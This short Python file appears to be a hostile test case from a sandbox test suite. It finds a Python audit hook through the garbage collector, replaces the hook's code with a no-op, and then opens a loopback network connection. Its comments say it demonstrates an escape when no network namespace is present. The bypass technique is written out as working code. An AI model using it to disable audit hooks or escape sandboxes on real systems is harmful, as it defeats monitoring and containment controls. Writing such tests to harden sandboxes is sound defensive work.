# hostile: find the audit hook through gc, swap its code for a no-op, then connect to a server listening on the
# host's loopback (exit 0 would mean the attack worked)
# escapes-fallback-no-ns: without a network namespace the loopback is the host's, and the audit hook is no barrier
import gc
import socket
for obj in gc.get_objects():
    if type(obj).__name__ == 'function' and obj.__name__ == 'hook' and obj.__closure__:
        names = obj.__code__.co_freevars
        source = (
            'def outer():\n    ' + ' = '.join(names) + ' = None\n'
            '    def hook(event, args):\n        ' + ', '.join(names) + '\n        return None\n    return hook\n'
        )
        scope = {}
        exec(source, scope)
        obj.__code__ = scope['outer']().__code__
socket.create_connection(('127.0.0.1', LISTEN_PORT), timeout=2).close()
